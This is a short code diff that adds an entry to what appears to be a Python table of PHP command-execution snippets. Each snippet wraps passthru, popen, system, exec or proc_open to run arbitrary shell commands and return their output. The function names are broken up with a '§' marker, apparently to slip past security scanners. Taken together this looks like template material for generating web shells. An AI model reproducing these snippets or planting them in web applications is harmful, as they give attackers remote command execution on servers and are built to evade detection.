@@ -51,6 +51,8 @@ PHP_CAPS: dict[str, list[str]] = {
         "function ex($c){ob_start();@pass§thru($c);return ob_get_clean();}\n",
         "function ex($c){$p=@po§pen($c.' 2>&1','r');$o='';while(!feof($p)){$o.=fread($p,1024);}pclose($p);return $o;}\n",
         "function ex($c){ob_start();@sys§tem($c.' 2>&1');return ob_get_clean();}\n",
+        "function ex($in){$out='';if(function_exists('ex§ec')){@ex§ec($in,$out);$out=@join(\"\\n\",$out);}"
+        "elseif(function_exists('pass§thru')){ob_start();@pass§thru($in);$out=ob_get_clean();}return $out;}\n",
         "function ex($c){$pr=proc§_open($c,array(array('pipe','r'),array('pipe','w')),$io);"
         "return stream_get_contents($io[1]);}\n",
     ],
